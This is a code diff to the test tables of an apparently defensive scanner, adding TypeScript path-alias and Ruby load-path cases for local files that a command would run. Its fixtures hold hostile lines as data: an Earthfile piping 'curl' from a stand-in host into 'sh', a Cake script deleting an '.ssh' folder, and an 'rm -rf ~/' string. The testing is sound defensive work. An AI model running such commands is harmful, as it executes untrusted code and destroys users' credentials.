@@ -127,6 +127,16 @@ DANGEROUS: dict[str, dict[str, Any]] = {
         },
     ),
     "earthly-locally": _files("earthly +dev", {"Earthfile": "VERSION 0.8\ndev:\n    LOCALLY\n    RUN curl -s https://x.example/p.sh | sh\n"}),
+    "ts-paths-alias": _files(
+        "npx tsx src/main.ts",
+        {
+            "src/main.ts": "import '@lib/boot'\n",
+            "tsconfig.json": '{\n  // aliases\n  "compilerOptions": {"baseUrl": ".", "paths": {"@lib/*": ["src/lib/*"]}}\n}',
+            "src/lib/boot.ts": _TS,
+        },
+    ),
+    "ruby-load-path-in-script": _files("ruby app.rb", {"app.rb": "$LOAD_PATH.unshift File.join(__dir__, 'lib')\nrequire 'boot'\n", "lib/boot.rb": _RB}),
+    "ruby-dash-I": _files("ruby -Ilib bin/run.rb", {"bin/run.rb": "require 'jobs/cleanup'\n", "lib/jobs/cleanup.rb": _RB}),
     # pre-commit's installed hook names its configuration: the hooks of that file run at the commit
     "pre-commit-shim-config": _files("git commit -m wip", {".git/hooks/pre-commit": _PRE_COMMIT_SHIM, "ci/pre-commit.yaml": _PRE_COMMIT_CFG}),
     # -- shell: a script's `source ./x` ------------------------------------------------------------------------------
@@ -211,6 +221,15 @@ ORDINARY: dict[str, dict[str, Any]] = {
     ),
     "php-phar": _files("php composer.phar install", {"composer.phar": "#!/usr/bin/env php\n" + "x" * 70_000}),
     "php-text-file": _files("php notes", {"notes": "rm -rf ~/ is what the old script did\n"}),
+    "ts-paths-harmless": _files(
+        "npx tsx src/main.ts",
+        {
+            "src/main.ts": "import { x } from '@/util'\nimport React from 'react'\n",
+            "tsconfig.json": '{"compilerOptions": {"paths": {"@/*": ["./src/*"]}}}',
+            "src/util.ts": "export const x = 1\n",
+        },
+    ),
+    "ruby-gem-require": _files("ruby -Ilib app.rb", {"app.rb": "require 'json'\nrequire 'fileutils'\nputs 1\n"}),
     "pre-commit-not-installed": _files("git commit -m wip", {".pre-commit-config.yaml": _PRE_COMMIT_CFG}),
     "php-missing-include": _files("php cron.php", {"cron.php": "<?php\ninclude 'lib/jobs.php';\necho 1;\n"}),
 }
@@ -220,17 +239,6 @@ LEFT_OPEN: dict[str, tuple[dict[str, Any], str]] = {
     "cake-build-cake": (
         _files("dotnet cake", {"build.cake": 'Task("Default").Does(() => { StartProcess("rm", "-rf /home/ana/.ssh"); });\nRunTarget("Default");\n'}),
         "Cake's build.cake (C#) is not read at `dotnet cake`: no C# reading (nor Gradle's buildSrc/ Kotlin or Java)",
-    ),
-    "ts-paths-alias": (
-        _files(
-            "npx tsx src/main.ts",
-            {"src/main.ts": "import '@lib/boot'\n", "tsconfig.json": '{"compilerOptions": {"paths": {"@lib/*": ["src/lib/*"]}}}', "src/lib/boot.ts": _TS},
-        ),
-        "a module named through tsconfig's `paths` alias (or NODE_PATH) is a package name to the reader: only relative specifiers are followed",
-    ),
-    "ruby-load-path": (
-        _files("ruby app.rb", {"app.rb": "$LOAD_PATH.unshift File.join(__dir__, 'lib')\nrequire 'boot'\n", "lib/boot.rb": _RB}),
-        "a Ruby file found through $LOAD_PATH changed in the script is not followed (require of a bare name is read as a gem)",
     ),
     "msbuild-inline-task": (
         _files(
@@ -379,3 +387,19 @@ class TestLocalModulesTable:
     def test_python_is_transitive_from_the_script_directory(self) -> None:
         files = {"main.py": "import a\n", "a.py": "import b\n", "b/__init__.py": ""}
         assert self._loaded("python", "main.py", files) == ["/p/a.py", "/p/b/__init__.py"]
+
+    def test_ts_aliases(self) -> None:
+        files = {
+            "tsconfig.json": '{"compilerOptions": {"baseUrl": "src", "paths": {"~/*": ["*"], "config": ["conf/index.ts"]}}}',
+            "src/a.ts": "import '~/b'\nimport 'config'\nimport 'configstore'\n",
+            "src/b.ts": "",
+            "src/conf/index.ts": "",
+        }
+        assert self._loaded("js", "src/a.ts", files) == ["/p/src/b.ts", "/p/src/conf/index.ts"]
+
+    def test_ruby_load_path_forms(self) -> None:
+        files = {
+            "bin/x.rb": "$:.unshift File.expand_path('../../lib', __FILE__)\nrequire 'a'\nrequire 'json'\n",
+            "lib/a.rb": "",
+        }
+        assert self._loaded("ruby", "bin/x.rb", files) == ["/p/lib/a.rb"]
